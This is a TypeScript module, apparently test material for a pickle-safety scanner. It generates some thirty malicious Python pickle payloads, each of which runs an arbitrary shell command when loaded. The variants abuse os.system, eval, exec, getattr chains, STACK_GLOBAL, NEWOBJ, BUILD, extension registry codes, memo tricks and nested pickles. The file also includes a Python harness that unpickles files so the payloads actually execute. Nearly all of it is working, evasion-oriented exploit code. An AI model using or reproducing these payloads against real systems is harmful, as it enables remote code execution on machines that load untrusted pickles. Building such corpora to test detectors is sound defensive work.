import { littleEndian, pickle, text } from './pickles';

/** A pickle that makes a file when somebody carries it out. */
export interface Attack {
  readonly name: string;
  /** Opcodes that leave one value on the stack. @param command what a shell is to run */
  readonly value: (command: string) => Uint8Array;
  /** False for what Python refuses too unless its user helps. */
  readonly live?: false;
}

const IMPORT_OS = pickle('cbuiltins\n__import__\n(', text('os'), 'tR');
const NAMESPACE = pickle('ctypes\nSimpleNamespace\n)R');
const run = (callee: Uint8Array, command: string): Uint8Array => pickle(callee, '(', text(command), 'tR');
const named = (module: string, name: string): Uint8Array => pickle(text(module), text(name), '\x93');
const python = (command: string): string => `__import__('os').system(${JSON.stringify(command)})`;
/** An object whose method of that name is a shell. */
const disguised = (method: string): Uint8Array => pickle(NAMESPACE, '}', text(method), 'cos\nsystem\nsb');

/** Ways to run a command while a pickle is read; each is called by the opcode or the name it rests on. */
export const ATTACKS: readonly Attack[] = [
  { name: 'os.system', value: (command) => run(pickle('cos\nsystem\n'), command) },
  { name: 'posix.system', value: (command) => run(pickle('cposix\nsystem\n'), command) },
  { name: 'eval', value: (command) => run(pickle('cbuiltins\neval\n'), python(command)) },
  { name: 'exec', value: (command) => run(pickle('cbuiltins\nexec\n'), python(command)) },
  {
    name: 'getattr of __import__',
    value: (command) => run(pickle('cbuiltins\ngetattr\n(', IMPORT_OS, text('system'), 'tR'), command),
  },
  {
    name: 'a chain of getattr',
    value: (command) => {
      const path = pickle('cbuiltins\ngetattr\n(', IMPORT_OS, text('path'), 'tR');
      const os = pickle('cbuiltins\ngetattr\n(', path, text('os'), 'tR');
      return run(pickle('cbuiltins\ngetattr\n(', os, text('system'), 'tR'), command);
    },
  },
  {
    name: 'operator.attrgetter',
    value: (command) =>
      run(pickle('coperator\nattrgetter\n(', text('system'), 'tR(', IMPORT_OS, 'tR'), command),
  },
  { name: 'STACK_GLOBAL', value: (command) => run(pickle('\x80\x04', named('os', 'system')), command) },
  {
    name: 'STACK_GLOBAL with a path of names',
    value: (command) => run(pickle('\x80\x04', named('posixpath', 'os.path.os.system')), command),
  },
  {
    name: 'STACK_GLOBAL with names out of the memo',
    value: (command) =>
      run(pickle('\x80\x04', text('system'), '\x94', text('os'), '\x940', '0h\x01h\x00\x93'), command),
  },
  {
    name: 'GLOBAL with a path of names',
    value: (command) => run(pickle('\x80\x04cposixpath\nos.system\n'), command),
  },
  { name: 'INST', value: (command) => pickle('(', text(command), 'ios\nsystem\n') },
  { name: 'OBJ', value: (command) => pickle('(cos\nsystem\n', text(command), 'o') },
  {
    name: 'NEWOBJ',
    value: (command) => pickle('cfunctools\npartial\n(cos\nsystem\n', text(command), 't\x81)R'),
  },
  {
    name: 'NEWOBJ_EX',
    value: (command) =>
      pickle('cfunctools\npartial\n(cos\nsystem\nt}', text('command'), text(command), 's\x92)R'),
  },
  {
    name: 'BUILD with __setstate__',
    value: (command) => pickle(disguised('__setstate__'), text(command), 'b'),
  },
  { name: 'APPEND to what is no list', value: (command) => pickle(disguised('append'), text(command), 'a') },
  {
    name: 'APPENDS to what is no list',
    value: (command) => pickle(disguised('append'), '(', text(command), 'e'),
  },
  {
    name: 'ADDITEMS to what is no set',
    value: (command) => pickle(disguised('add'), '(', text(command), '\x90'),
  },
  { name: 'EXT1', value: (command) => run(pickle('\x82', [200]), command) },
  { name: 'EXT2', value: (command) => run(pickle('\x83', littleEndian(2000, 2)), command) },
  { name: 'EXT4', value: (command) => run(pickle('\x84', littleEndian(200_000, 4)), command) },
  {
    name: 'a memo that is overwritten',
    value: (command) =>
      run(pickle('ccollections\nOrderedDict\nq\x00', '0cos\nsystem\nq\x00', '0h\x00'), command),
  },
  {
    name: 'what is dropped at once',
    value: (command) => pickle(run(pickle('cos\nsystem\n'), command), '0N'),
  },
  {
    name: 'a pickle within the pickle',
    value: (command) => {
      const inner = pickle(run(pickle('cos\nsystem\n'), command), '.');
      return pickle('c_pickle\nloads\n(B', littleEndian(inner.length, 4), inner, 'tR');
    },
  },
  { name: 'PERSID', value: (command) => run(pickle('Pos.system\n'), command), live: false },
  { name: 'BINPERSID', value: (command) => run(pickle('cos\nsystem\nQ'), command), live: false },
  {
    name: 'a module beside the file',
    value: (command) => run(pickle('c../../evil\nrun\n'), command),
    live: false,
  },
];

/** Makes Python carry out the pickles in the files named to it, as long as it does. */
export const CARRY_OUT = `
import copyreg, pickle, sys
for code in (200, 2000, 200000):
    copyreg.add_extension({200: 'os', 2000: 'posix', 200000: 'subprocess'}[code], {200000: 'getoutput'}.get(code, 'system'), code)
for path in sys.argv[1:]:
    try:
        pickle.loads(open(path, 'rb').read())
    except Exception as error:
        print(path, error)
`;

/** `levels` containers in one another, of opcodes that open one and of one that puts it into the next. */
export function nested(open: string, close: string, levels: number): Uint8Array {
  return pickle(
    new Uint8Array(levels).fill(open.charCodeAt(0)),
    new Uint8Array(levels - 1).fill(close.charCodeAt(0)),
  );
}
